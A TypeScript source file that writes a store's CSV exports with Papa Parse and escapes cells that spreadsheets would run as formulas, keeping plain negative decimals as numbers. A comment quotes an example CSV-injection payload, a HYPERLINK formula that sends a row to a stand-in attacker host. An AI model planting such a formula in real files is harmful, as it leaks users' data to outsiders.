import Papa from 'papaparse';

/**
 * A cell a spreadsheet would read as a formula (OWASP "CSV Injection", CWE-1236): one starting
 * with =, +, -, @, a tab or a carriage return. Excel, LibreOffice and Google Sheets run such a
 * cell when the file is opened, so a customer named `=HYPERLINK("https://evil.tld/?"&A1,"Refund")`
 * would put a link that sends the row away in the admin's payments.
 *
 * One exception to OWASP's "prefix anyway": a cell that is a plain decimal number, a minus and
 * digits with at most one decimal point (`-1250.00`, a return deducted in a settlement). A
 * spreadsheet reads it as a number, so nothing runs, and an accountant can still add the column
 * up; a prefixed `'-1250.00` would be text. Anything more after the minus (`-1e5`, `-2+3`, `-A1`,
 * a space) is escaped. Numbers passed as numbers are never escaped (Papa Parse's rule).
 */
const FORMULA_START = /^(?:[=+@\t\r]|-(?!\d+(?:\.\d+)?$))/;

type Cell = string | number | boolean | null | undefined;

/**
 * Every CSV the store sends (the admin's payments, a seller's settlement, the import template) is
 * written here: RFC 4180 by Papa Parse, CRLF line ends, and a cell that would run as a formula
 * prefixed with a single quote and quoted, so a spreadsheet shows it as the text it was.
 */
export function toCsv(table: { fields: readonly string[]; data: ReadonlyArray<readonly Cell[]> } | ReadonlyArray<readonly Cell[]>): string {
  const input = 'fields' in table ? { fields: [...table.fields], data: table.data.map((row) => [...row]) } : table.map((row) => [...row]);
  return Papa.unparse(input, { escapeFormulae: FORMULA_START });
}
